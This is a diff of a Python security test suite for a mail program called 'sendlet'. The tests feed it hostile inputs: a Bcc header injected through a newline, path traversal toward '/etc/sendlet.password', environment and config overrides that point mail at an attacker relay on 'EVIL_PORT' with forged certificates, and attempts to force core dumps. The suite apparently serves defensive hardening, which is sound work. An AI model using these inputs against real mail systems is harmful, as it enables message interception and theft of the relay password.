@@ -150,10 +150,25 @@ def environment():
            "NAME": "x\nBcc: evil@example.net", "GMON_OUT_PREFIX": VAULT + "/new", "NOTIFY_SOCKET": "/x"}
     for name, value in own.items():
         run(["-v", *TARGET], env={name: value})
+    for keyword in os.environ["KEYWORDS"].split():
+        for value in ("/etc/sendlet.password", "off", "no", "-1", f"smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}"):
+            run(TARGET, env={"SENDLET_" + keyword.upper().replace("-", "_"): value})
     run(["-v", *TARGET], env=own)
     for zone in ("/etc/sendlet.password", "../../../etc/sendlet.password", ":sendlet.password", "x" * 5000):
         run(["-v", *TARGET], b"To: pat@example.net\n\nno date\n", env={"TZ": zone, "TZDIR": "/etc"})
     run(["-v", *TARGET], env={"A" * 100000: "B" * 1000})
+
+
+def verification():
+    """Making it believe a relay whose authority the administrator does not know."""
+    for name in ("CA_FILE", "TLS_PIN", "TLS_MIN", "RELAY", "PROXY", "FAMILY", "SOURCE", "INTERFACE", "SANDBOX"):
+        for value in ("/mnt/relay.pem", "off", "no", os.environ["PIN"], "smtp://127.0.0.1:" + os.environ["EVIL_PORT"]):
+            run(["-v", *TARGET], env={"SENDLET_" + name: value, "SSL_CERT_FILE": "/mnt/relay.pem",
+                                      "SSL_CERT_DIR": "/mnt"})
+    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
+        file.write(f"relay smtp+tls://127.0.0.1:{os.environ['EVIL_PORT']}\nca-file /mnt/relay.pem\n")
+    for words in (["--config", HOME + "/own.conf"], ["-C" + HOME + "/own.conf"], ["-O", "CACertFile=/mnt/relay.pem"]):
+        run([*words, "-v", *TARGET])
 
 
 def proc():
@@ -230,6 +245,14 @@ def core():
             tried("signal", number, it.process.wait(10))
             if os.WCOREDUMP(it.process.returncode & 0xff if it.process.returncode > 0 else 0):
                 failed("core", number)
+    with Waiting(cwd=HOME) as it:
+        try:
+            print(resource.prlimit(it.pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2))
+            failed("limits of a process that runs")
+        except OSError as error:
+            tried("prlimit", error.strerror)
+        os.kill(it.pid, signal.SIGSEGV)
+        tried("signal", it.process.wait(10))
     with Waiting() as it:
         done = subprocess.run(["gcore", "-o", HOME + "/core", str(it.pid)], stdout=subprocess.PIPE, check=False,
                               stderr=subprocess.STDOUT, env={"PATH": "/usr/bin:/bin", "HOME": HOME})
